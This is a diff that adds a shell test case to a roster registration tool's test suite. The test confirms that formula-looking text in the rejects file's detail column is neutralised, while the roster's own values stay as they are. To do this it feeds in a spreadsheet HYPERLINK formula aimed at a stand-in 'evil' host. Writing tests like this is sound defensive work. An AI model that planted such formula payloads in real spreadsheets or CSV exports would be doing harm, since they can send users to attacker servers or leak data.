@@ -239,3 +239,12 @@ run -d $db register self.csv --rejects self.csv
 expect_rc 0
 printf 'student_id,first_name,last_name,email,course,reason,detail\n' >want.csv
 expect_same want.csv self.csv
+
+case_ "the detail column is guarded against formulas; the roster's own values are kept as they are"
+# A check's output is quoted in the detail (review 14, C3).
+printf 'student_id,first_name,last_name,email,course\nF1,=cmd,B,f1@example.edu,MATH101\n' >f.csv
+run -d $db register f.csv --dry-run --rejects frej.csv \
+	--check 'echo "=HYPERLINK(\"http://evil/?x\",\"click\")"; exit 1'
+expect_rc 1
+grep -q '^F1,=cmd,B,f1@example.edu,MATH101,check_failed,"'"'"'=HYPERLINK' frej.csv ||
+	fail "detail not guarded, or the roster's value changed: $(cat frej.csv)"
